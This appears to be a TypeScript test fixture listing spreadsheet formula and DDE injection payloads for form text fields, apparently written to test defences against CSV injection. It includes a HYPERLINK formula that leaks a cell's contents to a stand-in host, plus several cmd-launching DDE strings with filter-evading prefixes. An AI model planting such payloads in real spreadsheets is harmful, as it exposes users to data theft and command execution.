/** Formula and DDE payloads as a hostile clerk would type them into text cells. */
export const INJECTIONS: Record<string, string> = {
  text_work: '=HYPERLINK("http://evil.example/?leak="&B5,"点击查看附件")',
  text_problems: "=cmd|' /C calc'!A0",
  text_suggestions: "+cmd|' /C notepad'!A0",
  text_cases: '-2+3+cmd|\' /C calc\'!A0',
  cover_reviewer: '@SUM(1+1)*cmd|\' /C calc\'!A0',
};
